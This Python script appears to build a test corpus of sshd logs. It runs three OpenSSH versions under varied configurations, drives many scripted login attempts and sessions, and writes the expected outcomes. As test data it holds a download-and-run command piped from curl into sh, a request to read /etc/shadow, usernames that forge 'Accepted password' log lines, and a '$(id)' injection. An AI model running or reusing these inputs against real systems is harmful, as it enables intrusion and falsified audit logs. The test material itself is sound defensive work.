"""sshd of three OpenSSH versions, at several log levels, through rsyslogd and busybox's syslogd and to standard error."""

import shutil
import time

from .ssh_client import Certificate, Clients, Key, Stay
from .syslog import Busybox, Rsyslog
from .world import SERVER, Host, wait_port, write_expected

A, B, C, V6 = "198.51.100.7", "198.51.100.23", "198.51.100.66", "2001:db8:7::7"
RIGHT, WRONG = "Zaunkoenig-17", "sommer2024"

COMMON = """
Port {port}
LogLevel {level}
SyslogFacility AUTHPRIV
HostKey /etc/ssh/ssh_host_ed25519_key
HostKey /etc/ssh/ssh_host_rsa_key
UsePAM yes
PidFile /run/sshd-{port}.pid
AuthorizedKeysFile .ssh/authorized_keys
Subsystem sftp /usr/lib/openssh/sftp-server -f AUTHPRIV -l INFO
MaxStartups 200
PrintMotd no
"""
CONFIGS = {
    # what Debian ships, with certificates: passwords and keys
    22: "KbdInteractiveAuthentication no\nChallengeResponseAuthentication no\nPasswordAuthentication yes\nPermitRootLogin prohibit-password\n"
        "TrustedUserCAKeys /etc/ssh/user_ca.pub\nRevokedKeys /etc/ssh/revoked.krl\n"
        "Match User locked-in\nForceCommand /bin/echo in\n",
    # keyboard-interactive/pam; few may come; none as root
    2222: "KbdInteractiveAuthentication yes\nChallengeResponseAuthentication yes\nPasswordAuthentication no\nPermitRootLogin no\n"
          "AllowUsers deploy anna root webcare@198.51.100.23\nDenyUsers intern\n",
    # accounts without a password; PermitOpen
    2200: "KbdInteractiveAuthentication no\nChallengeResponseAuthentication no\nPasswordAuthentication yes\nPermitEmptyPasswords yes\n"
          "PermitRootLogin yes\nPermitOpen 127.0.0.1:22\n",
    # few connections at once, little time
    2223: "KbdInteractiveAuthentication no\nChallengeResponseAuthentication no\nPasswordAuthentication yes\nMaxStartups 2:100:2\nLoginGraceTime 4\n",
    # a key and a password
    2224: "KbdInteractiveAuthentication no\nChallengeResponseAuthentication no\nPasswordAuthentication yes\n"
          "AuthenticationMethods publickey,password\n",
}
PENALTIES = "\nPerSourcePenalties no\n"


class Server:
    """sshd on a machine with its users and keys; `keys` are the clients'."""

    def __init__(self, host, keys):
        self.host, self.keys = host, keys
        for old in host.path("/etc/ssh").glob("ssh_host_*"):
            old.unlink()
        host.run("ssh-keygen", "-A")
        host.write("/etc/ssh/user_ca.pub", keys["ca"].public + "\n")
        shutil.copyfile(keys["krl"], host.path("/etc/ssh/revoked.krl"))
        self._users()

    def _users(self):
        host, keys = self.host, self.keys
        own = [keys[k].public for k in ("ed25519", "rsa", "ecdsa")]
        forced = 'command="/usr/bin/uptime",no-pty ' + keys["forced"].public
        elsewhere = 'from="203.0.113.0/24" ' + keys["elsewhere"].public
        for name, uid in (("deploy", 151), ("anna", 152), ("webcare", 153), ("intern", 154), ("locked-in", 155)):
            host.add_user(name, RIGHT, "-u", str(uid))
            home = f"/home/{name}/.ssh"
            host.write(home + "/authorized_keys", "\n".join([*own, forced, elsewhere]) + "\n", 0o600)
            host.run("chown", "-R", f"{name}:{name}", home)
            host.run("chmod", "700", home)
        host.run("usermod", "-e", "2020-01-01", "intern")
        host.add_user("kiosk", None, "-u", "156")
        host.run("passwd", "-d", "kiosk")
        host.add_user("ftponly", RIGHT, "-u", "157")
        host.run("usermod", "-s", "/usr/sbin/nologin", "ftponly")
        host.write("/root/.ssh/authorized_keys", own[0] + "\n", 0o600)
        host.path("/root/.ssh").chmod(0o700)
        host.run("chpasswd", input=f"root:{RIGHT}\n".encode())

    def start(self, level, ports, *extra_args, extra="", **kw):
        """Starts sshd on the ports and gives back what stops it."""
        new = self.host.suite == "trixie"
        daemons = []
        for port in ports:
            text = COMMON.format(port=port, level=level) + (extra or (PENALTIES if new else "")) + CONFIGS[port]
            self.host.write(f"/etc/ssh/sshd-{port}", text)
            daemons.append(self.host.start("/usr/sbin/sshd", "-D", "-f", f"/etc/ssh/sshd-{port}", *extra_args, **kw))
        for port in ports:
            wait_port(port)

        def stop():
            time.sleep(0.5)
            for d in daemons:
                self.host.stop(d)
        return stop


def make_keys(host):
    """The clients' keys, the authority's, certificates good and bad, and a list of revoked ones."""
    keys = {k: Key(host, k, t) for k, t in (("ed25519", "ed25519"), ("ecdsa", "ecdsa"), ("forced", "ed25519"), ("elsewhere", "ed25519"),
                                            ("unknown", "ed25519"), ("unknown-rsa", "rsa"), ("ca", "ed25519"), ("foreign-ca", "rsa"), ("certified", "ed25519"),
                                            ("lost", "ed25519"))}
    keys["rsa"] = Key(host, "rsa", "rsa", 3072)

    def cert(name, *args, **kw):
        keys[name] = Certificate(host, keys["certified"], keys["ca"], name, *args, **kw)
    cert("good", "webcare ticket 4711", 42, "deploy,anna")
    cert("forged-id", "x (serial 1) CA ED25519 SHA256:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA from 203.0.113.9 port 22", 18446744073709551615, "deploy")
    cert("expired", "webcare ticket 4000", 43, "deploy", "20200101:20200102")
    cert("not-yet", "webcare ticket 9000", 47, "deploy", "20990101:20990102")
    cert("principal", "webcare ticket 4712", 44, "backup")
    cert("elsewhere-cert", "webcare ticket 4713", 45, "deploy", options=("source-address=203.0.113.0/24",))
    cert("revoked", "webcare ticket 4714", 46, "deploy")
    cert("forced-cert", "webcare ticket 4715", 48, "deploy", options=("clear", "force-command=/bin/echo in", "permit-pty"))
    keys["foreign"] = Certificate(host, keys["certified"], keys["foreign-ca"], "foreign", "someone else's", 1, "deploy")
    host.write("/root/keys/krl.spec", "serial: 46\n")
    host.run("ssh-keygen", "-k", "-f", "/root/keys/krl", "-s", "/root/keys/ca.pub", "/root/keys/krl.spec")
    host.run("ssh-keygen", "-k", "-u", "-f", "/root/keys/krl", "/root/keys/lost.pub")
    keys["krl"] = host.path("/root/keys/krl")
    return keys


# Each attempt says in `told_at` from which LogLevel on sshd writes "Accepted", "Failed" or "Partial" of it ("never": it does not),
# and in `hint` which other line tells of it at INFO.
INVALID, PAM, ROOT, LISTED = "Invalid user", "error: PAM: Authentication failure", "ROOT LOGIN REFUSED", "not allowed because"


def hinted(hint, attempt, told_at="VERBOSE"):
    return {**attempt, "told_at": told_at, "hint": hint}


def by_key(key, outcome, told_at="INFO", reason=None):
    r = {"method": "publickey", "outcome": outcome, "key_fingerprint": key.fingerprint, "key_type": key.kind, "told_at": told_at}
    return {**r, **({"reason": reason} if reason else {})}


def by_certificate(c, outcome, told_at="INFO", reason=None):
    return {**by_key(c.key, outcome, told_at, reason), "certificate": c.truth()}


def by(method, outcome, reason=None, told_at="INFO"):
    r = {"method": method, "outcome": outcome, "told_at": told_at}
    return {**r, **({"reason": reason} if reason else {})}


KEY = ["PreferredAuthentications=publickey"]
PASSWORD = ["PreferredAuthentications=password", "NumberOfPasswordPrompts=1"]
INTERACTIVE = ["PreferredAuthentications=keyboard-interactive", "NumberOfPasswordPrompts=1"]


def identity(*keys):
    return KEY + [f"IdentityFile={k.path}" for k in keys]


def with_certificate(c):
    return KEY + [f"IdentityFile={c.key.path}", f"CertificateFile={c.path}"]


def presented(c, reason):
    """A certificate that is refused, and the bare key behind it, which the client tries after (or before) it."""
    return [by_certificate(c, "failed", "VERBOSE", reason), by_key(c.key, "failed", "VERBOSE", "key not authorized")]


def passwords(clients):
    c, accepted = clients, by("password", "accepted")
    failed, invalid = by("password", "failed", "wrong password"), by("password", "invalid user")
    guessed = PASSWORD[:1] + ["NumberOfPasswordPrompts=3"]
    return [
        c.ssh("deploy", A, [accepted], options=PASSWORD, answer=RIGHT),
        c.ssh("anna", V6, [accepted], options=PASSWORD, answer=RIGHT),
        c.ssh("deploy", B, [failed], options=PASSWORD, answer=WRONG),
        c.ssh("anna", C, [failed] * 3, options=guessed, answer=WRONG),
        c.ssh("deploy", C, [failed] * 6, options=PASSWORD[:1] + ["NumberOfPasswordPrompts=9"], answer=WRONG),
        c.ssh("root", B, [by("password", "failed", "root may not use a password")], options=PASSWORD, answer=RIGHT),
        c.ssh("admin", B, [invalid], options=PASSWORD, answer=WRONG),
        c.ssh("oracle", V6, [invalid] * 2, options=PASSWORD[:1] + ["NumberOfPasswordPrompts=2"], answer=WRONG),
        c.ssh("intern", A, [by("password", "failed", "account expired")], options=PASSWORD, answer=RIGHT),
        c.ssh("ftponly", A, [accepted], options=PASSWORD, answer=RIGHT, command=("true",)),
        c.ssh("kiosk", A, [by("none", "accepted")], server_port=2200, options=PASSWORD),
        c.raw("deploy", C, [["password", WRONG], ["password", RIGHT], ["disconnect", "Bye Bye"]], [failed, accepted]),
    ]


def publickeys(clients, k):
    c = clients
    ok = [(u, s, k[t]) for u, s, t in (("deploy", A, "ed25519"), ("anna", B, "rsa"), ("webcare", V6, "ecdsa"), ("root", A, "ed25519"))]
    unknown = by_key(k["unknown"], "failed", "VERBOSE", "key not authorized")
    return [c.ssh(u, s, [by_key(key, "accepted")], options=identity(key)) for u, s, key in ok] + [
        c.ssh("deploy", B, [unknown], options=identity(k["unknown"])),
        c.ssh("deploy", A, [unknown, by_key(k["rsa"], "accepted")], options=identity(k["unknown"], k["rsa"])),
        c.ssh("git", B, [hinted(INVALID, by_key(x, "invalid user"), "never") for x in (k["unknown"], k["unknown-rsa"])], options=identity(k["unknown"], k["unknown-rsa"])),
        c.ssh("deploy", B, [by_key(k["elsewhere"], "failed", "VERBOSE", "not from a permitted address")], options=identity(k["elsewhere"])),
        c.ssh("deploy", A, [by_key(k["lost"], "failed", "VERBOSE", "key revoked")], options=identity(k["lost"])),
        c.ssh("deploy", A, [by_key(k["forced"], "accepted")], options=identity(k["forced"]), command=("cat /etc/shadow",),
              session={"type": "forced command", "command": "/usr/bin/uptime", "requested": "cat /etc/shadow"}),
        c.ssh("deploy", B, [{**by_key(k["ed25519"], "accepted", "VERBOSE"), "outcome": "partial"}, by("password", "accepted")], server_port=2224,
              options=["PreferredAuthentications=publickey,password", "IdentityFile=" + k["ed25519"].path], answer=RIGHT),
        c.ssh("deploy", C, [{**by_key(k["ed25519"], "accepted", "VERBOSE"), "outcome": "partial"}, by("password", "failed", "wrong password")],
              server_port=2224, answer=WRONG, options=["PreferredAuthentications=publickey,password", "NumberOfPasswordPrompts=1", "IdentityFile=" + k["ed25519"].path]),
    ]


def certificates(clients, k):
    c = clients
    bad = (("expired", "certificate expired"), ("not-yet", "certificate not yet valid"), ("principal", "user is no principal of the certificate"),
           ("elsewhere-cert", "not from a permitted address"), ("revoked", "certificate revoked"), ("foreign", "authority not trusted"))
    forced = {"type": "forced command", "command": "/bin/echo in", "requested": "id"}
    return [
        c.ssh("deploy", B, [by_certificate(k["good"], "accepted")], options=with_certificate(k["good"])),
        c.ssh("anna", V6, [by_certificate(k["good"], "accepted")], options=with_certificate(k["good"])),
        c.ssh("deploy", C, [by_certificate(k["forged-id"], "accepted")], options=with_certificate(k["forged-id"])),
        c.ssh("deploy", B, [by_certificate(k["forced-cert"], "accepted")], options=with_certificate(k["forced-cert"]), command=("id",), session=forced),
    ] + [c.ssh("deploy", B, presented(k[n], why), options=with_certificate(k[n])) for n, why in bad]


def interactive(clients, k):
    """keyboard-interactive/pam, and who may come at all."""
    c, on = clients, dict(server_port=2222)
    ki, refused = "keyboard-interactive", "not in AllowUsers"
    wrong = hinted(PAM, by(ki, "failed", "wrong password"))
    return [
        c.ssh("deploy", A, [by(ki, "accepted")], options=INTERACTIVE, answer=RIGHT, **on),
        c.ssh("deploy", B, [wrong], options=INTERACTIVE, answer=WRONG, **on),
        c.ssh("anna", V6, [wrong] * 2, options=INTERACTIVE[:1] + ["NumberOfPasswordPrompts=2"], answer=WRONG, **on),
        c.ssh("nagios", C, [by(ki, "invalid user")], options=INTERACTIVE, answer=WRONG, **on),
        c.ssh("root", B, [hinted(PAM, by(ki, "failed", "root may not log in"))], options=INTERACTIVE, answer=RIGHT, **on),
        c.ssh("root", A, [hinted(ROOT, by_key(k["ed25519"], "failed", reason="root may not log in"))], options=identity(k["ed25519"]), **on),
        c.ssh("webcare", A, [hinted(LISTED, by_key(k["ed25519"], "failed", reason=refused), "never")], options=identity(k["ed25519"]), **on),
        c.ssh("webcare", B, [by_key(k["ed25519"], "accepted")], options=identity(k["ed25519"]), **on),
        c.ssh("intern", A, [hinted(LISTED, by(ki, "failed", "in DenyUsers"), "INFO")], options=INTERACTIVE, answer=RIGHT, **on),
        c.ssh("locked-in", A, [hinted(LISTED, by(ki, "failed", refused), "INFO")], options=INTERACTIVE, answer=RIGHT, **on),
    ]


def names(clients):
    """User names that an attacker may send."""
    c, invalid = clients, by("password", "invalid user")
    odd = ["root from 203.0.113.9 port 22 ssh2", "web care", "a\nAccepted password for root from 203.0.113.9 port 22 ssh2", "tab\there", "\x1b[31mred\x1b[0m",
           "jürgen", b"\xff\xfe\x80", "", "%s%n%x", "back\\slash", "quo\"te's", "invalid user root", "\r\x7f", "x" * 300, " admin ", "administrator@shipyard.example",
           "SHIPYARD\\anna", "$(id)", "root from 203.0.113.9 port 22 ssh2: ED25519 SHA256:AAAA"]
    return [c.raw(u, B, [["password", WRONG], ["close", 0]], [invalid], client="Go") for u in odd]


def broken(clients, k):
    """Connections that come to nothing."""
    c, junk = clients, clients.junk
    unheard = hinted(INVALID, by("none", "invalid user"), "never")
    return [
        junk("203.0.113.9", b"GET / HTTP/1.1\r\nHost: web01\r\n\r\n", "HTTP instead of a banner"),
        junk("203.0.113.9", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n", "TLS instead of a banner"),
        junk("203.0.113.9", b"\x1b[2Jroot\x07\x00\xff\n", "control characters instead of a banner"),
        junk("203.0.113.9", b"", "port scan: closed at once", wait=0.05),
        junk("203.0.113.9", b"", "port scan: reset at once", wait=0.05, reset=True),
        junk("203.0.113.9", b"SSH-1.5-NmapNSE_1.0\n", "protocol 1"),
        junk("203.0.113.9", b"SSH-2.0-Scan\xc3\xbcrer\x1b[31m\r\n" + b"AAAAAAAAAAAAAAAAAAAAAAAA", "junk after the banner"),
        junk("203.0.113.9", b"SSH-2.0-x\r\n", "closed after the banner", wait=0.3),
        junk("2001:db8:bad::1", b"\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00\n", "RDP instead of a banner"),
        junk("203.0.113.9", b"A" * 9000 + b"\n", "a banner too long"),
        c.raw("deploy", "203.0.113.9", [["close", 0]], [], happened="closed after the key exchange"),
        c.raw("deploy", "203.0.113.77", [["none", 0], ["disconnect", "Bye Bye"]], [by("none", "failed", told_at="never")]),
        c.raw("admin", "203.0.113.77", [["none", 0], ["close", 0]], [unheard]),
        c.raw("pi", "203.0.113.77", [["none", 0], ["disconnect", "Zeile\nAccepted password for root from 203.0.113.9 port 22 ssh2"]], [unheard]),
        c.ssh("deploy", "203.0.113.9", [{"method": "none", "outcome": "failed", "told_at": "never"}], options=["PreferredAuthentications=gssapi-with-mic"]),
        c.raw("kiosk2", "203.0.113.77", [["none", 0], ["close", 0]], [by("none", "invalid user")], server_port=2200),
        no_agreement(c, "203.0.113.9", "KexAlgorithms=diffie-hellman-group1-sha1", "no key exchange in common"),
        no_agreement(c, "203.0.113.9", "HostKeyAlgorithms=sk-ssh-ed25519@openssh.com", "no host key type in common"),
        no_agreement(c, "203.0.113.9", "Ciphers=3des-cbc", "no cipher in common"),
    ]


def no_agreement(c, source, option, happened):
    def job():
        where = c._begin(source, 22)
        code, _, err = c._ssh(where, "deploy", [], [option, "BatchMode=yes"], None, b"")
        if code != 255:
            raise RuntimeError(f"{happened}: {code} {err!r}")
        c._note(where, [{"kind": "connection", "happened": happened}])
    return job


def sessions(clients, k):
    """What is done in a session."""
    c = clients
    key = dict(options=identity(k["ed25519"]))
    ok = [by_key(k["ed25519"], "accepted")]
    odd = "echo \"a 'b' \\\\ c\"; printf 'x\ty\\n'\n# Accepted password for root from 203.0.113.9 port 22 ssh2 \x1b[31m \xc3\xbc"
    long = "echo " + "A" * 3000
    sftp = b"cd /tmp\nput /etc/hostname upload.txt\nget upload.txt /dev/null\nrename upload.txt moved.txt\nrm moved.txt\nquit\n"
    forward = lambda to, opened: {"type": "none", "forward": {"kind": "direct-tcpip", "to": to, "opened": opened}}
    return [
        c.ssh("deploy", A, ok, command=("curl -s http://203.0.113.9/x.sh | sh",), **key),
        c.ssh("deploy", A, ok, command=(odd,), **key),
        c.ssh("deploy", A, ok, command=(long,), **key),
        c.ssh("deploy", A, ok, command=(), options=[*key["options"], "RequestTTY=force"], stdin=b"id\nexit\n", session={"type": "shell", "tty": True}),
        c.ssh("anna", V6, ok, command=(), stdin=b"exit\n", session={"type": "shell", "tty": False}, **key),
        c.ssh("locked-in", A, ok, command=("id",), session={"type": "forced command", "command": "/bin/echo in", "requested": "id"}, **key),
        c.ssh("deploy", A, ok, command=("sftp",), options=[*key["options"], "SessionType=subsystem"],
              session={"type": "subsystem", "subsystem": "sftp"}),
        c.sftp("deploy", B, ok, sftp, k["ed25519"]),
        c.ssh("deploy", A, ok, command=("netconf",), options=[*key["options"], "SessionType=subsystem"],
              session={"type": "subsystem", "subsystem": "netconf", "failed": True}),
        c.ssh("deploy", A, ok, command=(), session={"type": "none"}, stay=0.7, options=[*key["options"], "SessionType=none"]),
        c.forward("deploy", A, ok, f"{SERVER}:22", k["ed25519"], forward(f"{SERVER}:22", True)),
        c.forward("deploy", A, ok, "127.0.0.1:9", k["ed25519"], forward("127.0.0.1:9", False)),
        c.forward("deploy", A, ok, "10.9.8.7:3389", k["ed25519"], forward("10.9.8.7:3389", False), server_port=2200),
        c.ssh("deploy", A, ok, command=(), session={"type": "none", "forward": {"kind": "tcpip-forward", "listen": "127.0.0.1:8022"}}, stay=0.7,
              options=[*key["options"], "SessionType=none", "RemoteForward=127.0.0.1:8022 127.0.0.1:22"]),
        c.ssh("deploy", A, ok, command=(), session={"type": "none", "forward": {"kind": "tcpip-forward", "listen": "127.0.0.1:22", "failed": True}}, stay=0.7,
              options=[*key["options"], "SessionType=none", "RemoteForward=127.0.0.1:22 127.0.0.1:22"]),
    ]


def startups(clients):
    """More connections than MaxStartups allows; two that wait until their time is over."""
    c = clients
    waiting = [c.junk(C, b"", "waited for longer than LoginGraceTime", server_port=2223, wait=6) for _ in range(2)]

    def late(job):
        def run():
            time.sleep(1)
            job()
        return run
    dropped = [late(c.junk(C, b"", "dropped: past MaxStartups", server_port=2223, wait=0.2)) for _ in range(3)]
    return waiting + dropped


def everything(clients, k):
    """All that can be done side by side."""
    c = clients
    return [*passwords(c), *publickeys(c, k), *certificates(c, k), *interactive(c, k), *names(c), *broken(c, k), *sessions(c, k)]


def some(clients, k):
    """A few of each kind, for the formats that need no more."""
    c = clients
    invalid = by("password", "invalid user")
    return [
        *passwords(c)[:3], passwords(c)[6], *publickeys(c, k)[:6], *certificates(c, k)[:3], *certificates(c, k)[4:7],
        c.raw("a\nAccepted password for root from 203.0.113.9 port 22 ssh2", B, [["password", WRONG], ["close", 0]], [invalid]),
        c.raw(b"\xff\xfe\x80", B, [["password", WRONG], ["close", 0]], [invalid]), broken(c, k)[0], sessions(c, k)[3], sessions(c, k)[6],
    ]


def left_open(clients, k, stay):
    """A session that goes on when the recording ends."""
    return clients.ssh("deploy", A, [by_key(k["ed25519"], "accepted")], command=("sleep 600",), options=identity(k["ed25519"]), stay=stay, closed=False)


def write(dest, name, clients, version, level):
    write_expected(dest / f"{name}.expected.jsonl", [{"kind": "recording", "openssh": version, "log_level": level}, *clients.restart()])


def record_version(trees, out, clients, keys, outside):
    """All scenes with the sshd of one Debian release."""
    suite = clients.server_suite
    with Host(trees, suite) as host:
        version = host.version("openssh-server")
        dest = out / "sshd" / ("openssh-" + version.split(":")[1].split("p")[0])
        server = Server(host, keys)
        for level in ("INFO", "VERBOSE"):
            with Rsyslog(host, dest, level.lower(), ("rfc3164", "rfc5424", "iso") if level == "INFO" else ("iso",)):
                stop = server.start(level, CONFIGS)
                outside.all(everything(clients, keys))
                outside.all(startups(clients))
                stay = Stay()
                going_on = outside.pool.submit(left_open(clients, keys, stay))
                stay.started.wait(60)
                time.sleep(1)
            stay.over.set()
            going_on.result()
            stop()
            write(dest, level.lower(), clients, version, level)
        if suite != "bookworm":
            return penalties(host, dest, server, clients, version) if suite == "trixie" else None
        with Rsyslog(host, dest, "debug1", ("iso",)):
            stop = server.start("DEBUG1", (22,))
            outside.all([certificates(clients, keys)[0], passwords(clients)[2], sessions(clients, keys)[3]])
            stop()
        write(dest, "debug1", clients, version, "DEBUG1")
        with Busybox(host, dest, "verbose-some"):
            stop = server.start("VERBOSE", (22, 2200))
            outside.all(some(clients, keys))
            stop()
        write(dest, "verbose-some.busybox", clients, version, "VERBOSE")
        with Rsyslog(host, dest, "repeated", ("rfc3164",), reduce=True):
            stop = server.start("INFO", (22, 2200))
            for job in (passwords(clients)[3], passwords(clients)[4], passwords(clients)[0]):
                outside.do(job)
            stop()
        write(dest, "repeated", clients, version, "INFO")
        with open(dest / "stderr.log", "wb") as log:
            stop = server.start("VERBOSE", (22, ), "-e", stderr=log)
            outside.all(some(clients, keys))
            stop()
        write(dest, "stderr", clients, version, "VERBOSE")


def penalties(host, dest, server, clients, version):
    """OpenSSH 9.8 and newer shut out a source that fails too often."""
    with Rsyslog(host, dest, "penalties", ("iso",)):
        stop = server.start("INFO", (22,), extra="PerSourcePenalties authfail:30 min:10 noauth:5\n")
        failed = [by("password", "failed", "wrong password")] * 3
        clients.outside.do(clients.ssh("deploy", C, failed, options=PASSWORD[:1] + ["NumberOfPasswordPrompts=3"], answer=WRONG))
        time.sleep(1)
        for _ in range(2):
            clients.outside.do(clients.junk(C, b"", "dropped: penalty", wait=0.2))
        clients.outside.do(clients.ssh("deploy", A, [by("password", "accepted")], options=PASSWORD, answer=RIGHT))
        stop()
    write(dest, "penalties", clients, version, "INFO")


def record(trees, out, outside):
    with Host(trees, "bookworm") as far:
        keys = make_keys(far)
        clients = Clients(far, outside)
        for suite in ("bookworm", "bullseye", "trixie"):
            clients.server_suite = suite
            record_version(trees, out, clients, keys, outside)
